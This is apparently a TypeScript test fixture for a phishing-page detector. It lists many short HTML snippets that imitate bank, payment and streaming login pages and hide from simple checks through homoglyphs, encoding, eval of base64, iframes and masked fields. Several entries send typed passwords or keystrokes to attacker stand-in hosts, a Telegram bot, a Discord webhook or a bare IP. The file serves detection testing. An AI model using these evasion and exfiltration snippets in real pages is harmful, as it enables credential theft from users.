const PASSWORD = '<form><input type="email"><input type="password"></form>';
const POSTE = `<h1>Accedi a PostePay</h1>${PASSWORD}`;

function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

function codesOf(text: string): string {
  return Array.from(text)
    .map((character) => character.charCodeAt(0))
    .join(',');
}

function hexOf(text: string): string {
  return Array.from(text)
    .map((character) => `\\x${character.charCodeAt(0).toString(16).padStart(2, '0')}`)
    .join('');
}

function percentOf(text: string): string {
  return Array.from(text)
    .map((character) => `%${character.charCodeAt(0).toString(16)}`)
    .join('');
}

/** Pages that deceive, each in a way that a search for a brand and a password field does not see. */
export const DECEPTIVE: Record<string, string> = {
  'our own brand': `<title>Bluewave – Log in</title><h1>Bluewave</h1>${PASSWORD}`,
  'type with an entity': '<h1>PayPal</h1><form><input type="pass&#119;ord"></form>',
  'type without quotes and with a line end': '<h1>PayPal</h1><form><input type=\npassword></form>',
  'bracket in an attribute': '<h1>PayPal</h1><input data-x="a>b" type="password">',
  'brand with entities': `<h1>&#80;ay&#x50;al</h1>${PASSWORD}`,
  'Cyrillic letters': `<h1>Раураl – sign in</h1>${PASSWORD}`,
  'Greek and Cyrillic in a bank': `<h1>Іntеsа Sаnраοlо – accedi</h1>${PASSWORD}`,
  'zero-width characters': `<h1>Pa\u200byP\u200dal</h1>${PASSWORD}`,
  'soft hyphens': `<h1>Micro&shy;soft account</h1>${PASSWORD}`,
  'spaced letters': `<h1>P a y P a l</h1>${PASSWORD}`,
  'a letter in each element': `<h1><span>P</span><span>a</span><span>y</span><span>P</span><span>a</span><span>l</span></h1>${PASSWORD}`,
  'a letter in each block': `<h1><div>N</div><div>e</div><div>t</div><div>f</div><div>l</div><div>i</div><div>x</div></h1>${PASSWORD}`,
  'hidden letters between': `<h1>Pay<span style="display:none">x</span>Pal</h1>${PASSWORD}`,
  'digits for letters': `<h1>Paypa1 security</h1>${PASSWORD}`,
  'rn for m': `<title>rnicrosoft 365</title>${PASSWORD}`,
  'full-width letters': `<h1>ＰａｙＰａｌ</h1>${PASSWORD}`,
  'name in a pseudo-element': `<style>h1::before{content:"Pay" "Pal"}</style><h1></h1>${PASSWORD}`,
  'name in escapes of a style': `<style>h1::before{content:"\\50 ayPal"}</style><h1></h1>${PASSWORD}`,
  'name in a shown attribute': `<style>h1::after{content:attr(data-n)}</style><h1 data-n="UniCredit"></h1>${PASSWORD}`,
  'name written backwards': `<style>h1{unicode-bidi:bidi-override;direction:rtl}</style><h1>laPyaP</h1>${PASSWORD}`,
  'name in the logo only': `<img class="logo" alt="Intesa Sanpaolo" src="a.png"><p>Area clienti</p>${PASSWORD}`,
  'name in the file of the logo': `<img src="/img/paypal-logo.svg" alt=""><p>Welcome back</p>${PASSWORD}`,
  'logo from the brand itself': `<img src="https://www.paypalobjects.com/x.svg"><p>Welcome</p>${PASSWORD}`,
  'icon from the brand itself': `<link rel="icon" href="https://www.unicredit.it/favicon.ico"><p>Login</p>${PASSWORD}`,
  'name in the description for previews': `<meta property="og:title" content="Netflix">${PASSWORD}`,
  'title set by a script': `<script>document.title = 'Net' + 'flix'</script>${PASSWORD}`,
  'name on a canvas': `<canvas></canvas><script>c.fillText('PayPal', 5, 5)</script>${PASSWORD}`,
  'colours without a name': `<style>a{color:#003087}b{background:#009cde}</style><p>Log in to your account</p>${PASSWORD}`,
  'form in srcdoc': `<h1>PayPal</h1><iframe srcdoc="&lt;input type=password&gt;"></iframe>`,
  'srcdoc in srcdoc': `<iframe srcdoc="<iframe srcdoc='&amp;lt;h1>SPID&amp;lt;/h1>&amp;lt;input type=password>'></iframe>"></iframe>`,
  'form in a data address': `<h1>DHL</h1><iframe src="data:text/html;base64,${base64(PASSWORD)}"></iframe>`,
  'page in a data address with percent signs': `<iframe src="data:text/html,${percentOf(POSTE)}"></iframe>`,
  'page in base64': `<script>document.write(atob("${base64(POSTE)}"))</script>`,
  'page in base64 in pieces': `<script>document.write(atob("${base64(POSTE).slice(0, 20)}"+"${base64(POSTE).slice(20)}"))</script>`,
  'page in percent signs': `<script>document.write(unescape('${percentOf(POSTE)}'))</script>`,
  'page in numbers': `<script>document.write(String.fromCharCode(${codesOf(POSTE)}))</script>`,
  'page in hexadecimal escapes': `<script>document.body.innerHTML='${hexOf(POSTE)}'</script>`,
  'script in base64 that writes the page': `<script>eval(atob('${base64(`document.write('${POSTE}')`)}'))</script>`,
  'page in pieces of a list': `<script>document.write(['<h1>Pay','Pal</h1><inp','ut type=pass','word>'].join(''))</script>`,
  'field made by a script': `<h1>PayPal</h1><script>const i=document.createElement('input');i.type='pass'+'word'</script>`,
  'form in a script of a handler': `<h1>PayPal</h1><body onload="document.body.innerHTML='&lt;input type=password&gt;'">`,
  'form in a javascript address': `<h1>PayPal</h1><iframe src="javascript:'%3Cinput type=password%3E'"></iframe>`,
  'form in noscript': `<h1>PayPal</h1><noscript>${PASSWORD}</noscript>`,
  'form in a style of a drawing': `<h1>PayPal</h1><svg><style><p>${PASSWORD}</style></svg>`,
  'a comment that ends at once': `<h1>PayPal</h1><!-->${PASSWORD}<!-- -->`,
  'a megabyte of filler': `<h1>PayPal</h1><p>${'lorem ipsum '.repeat(90_000)}</p>${PASSWORD}`,
  'a megabyte of comment': `<!--${'x'.repeat(1_100_000)}--><h1>PayPal</h1>${PASSWORD}`,
  'text field masked by a style': `<style>.k{-webkit-text-security:disc}</style><h1>PayPal</h1><input class="k">`,
  'text field masked by a font': `<style>.k{font-family:text-security-disc}</style><h1>PayPal</h1><input class="k">`,
  'text field masked by a script': `<h1>PayPal</h1><input id="k"><script>k.oninput=()=>k.value='•'.repeat(n)</script>`,
  'editable element': `<h1>PayPal</h1><div contenteditable aria-label="Password"></div>`,
  'plain field with a label': `<h1>UniCredit</h1><label for="a">Codice PIN</label><input id="a">`,
  'label with borrowed letters': `<h1>UniCredit</h1><p>Pаsswоrd</p><input>`,
  'one-time code': '<h1>SPID</h1><input autocomplete="one-time-code">',
  'card number in words': `<h1>DHL: pagamento dazi</h1><input placeholder="Numero della carta">`,
  'order in the text only': `<p>Ciao,</p><p>come stai?</p><div>Verifica il tuo conto Nexi per sbloccarlo</div><input name="cvv">`,
  'brand above its trouble': `<p>Ciao</p><p>Avviso</p><p>Netflix</p><p>Your payment failed</p><input autocomplete="cc-number">`,
  'form to a chat': `<h1>Area soci</h1>${PASSWORD}<script>fetch('https://api.telegram.org/bot1/sendMessage',{body:a.value})</script>`,
  'form to a webhook': `<form action="https://discord.com/api/webhooks/1/x"><input type="password"></form>`,
  'form to a bare number': `<form action="http://203.0.113.7/x"><input type="password"></form>`,
  'address with an at sign': `<form action="https://paypal.com@evil.example/"><input type="password"></form>`,
  'encoded endpoint': `<h1>Area soci</h1>${PASSWORD}<script>fetch(atob('${base64('https://evil.example/collect')}'),{body:p.value})</script>`,
  'beacon of what is typed': `${PASSWORD}<script>navigator.sendBeacon('https://evil.example/c', p.value)</script>`,
  'second script with a picture': `${PASSWORD}<script>new Image().src='https://evil.example/?k='+e.key</script>`,
  'refresh to elsewhere': `<meta http-equiv="refresh" content="0;url=https://evil.example/login"><p>Loading…</p>`,
  'location to elsewhere': `<p>Please wait</p><script>window.location.href='https://evil.example/login'</script>`,
  'encoded location': `<p>Please wait</p><script>location.replace(atob('${base64('https://evil.example/login')}'))</script>`,
  'frame of another page': `<style>iframe{position:fixed;inset:0}</style><iframe src="https://evil.example/"></iframe>`,
  'link in the name of a bank': `<h1>Intesa Sanpaolo</h1><p>Il tuo conto è stato bloccato.</p><a href="https://evil.example/">Accedi ora</a>`,
  'only the first step': `<title>Microsoft</title><h1>Sign in</h1><input type="email"><button>Next</button>`,
  'wallet words': `<h1>Wallet</h1><p>Enter your 12-word recovery phrase</p><textarea></textarea>`,
  'brand in a paragraph and a card':
    '<p>Netflix: your payment failed</p><input autocomplete="cc-number">',
  'brand in a picture only': '<img alt="PayPal"><input type="password">',
  'title with an entrance': '<title>Microsoft – Sign in</title><input type="password">',
  'order without a heading':
    '<h1>Aggiornamento</h1><p>Verifica il tuo conto Nexi</p><input name="cvv">',
  'wallet words in a label': `<input placeholder="Frase di recupero">`,
};
